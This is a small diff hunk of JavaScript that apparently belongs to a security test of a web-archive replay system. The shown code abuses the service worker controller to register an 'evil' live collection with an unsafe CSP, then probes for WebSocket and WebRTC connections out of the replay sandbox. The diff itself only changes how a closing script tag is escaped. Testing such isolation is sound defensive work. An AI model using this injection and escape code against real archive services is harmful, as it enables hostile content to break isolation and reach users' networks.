@@ -95,5 +95,5 @@ const name = path.split("/")[3];
 attempt("add", () => { const message = (n) => ({ msg_type: "addColl", name: n, type: "live", file: { sourceUrl: "proxy:" }, extraConfig: { prefix: "http://" + host + "/", isLive: true, csp: "default-src * 'unsafe-inline' 'unsafe-eval' data: blob: ws:" } }); for (const n of ["evil", name]) post(call(clean.Object.getOwnPropertyDescriptor(clean.ServiceWorkerContainer.prototype, "controller").get, workers), message(n)); return "told"; });
 real.setTimeout(() => { for (const n of ["evil", name]) { make("iframe", { src: "/w/r/" + n + "/2014mp_/http://a.example/taken" }); const i = real.length - 1; real.setTimeout(() => { attempt("taken-" + n, () => { new real[i].WebSocket("ws://" + host + "/taken"); }); attempt("taken-rtc-" + n, () => stun(real[i])); }, 700); } }, 500);
 real.setTimeout(() => { got.done = "yes"; }, 2500);
-<\/script>`;
+</script>`;
 }
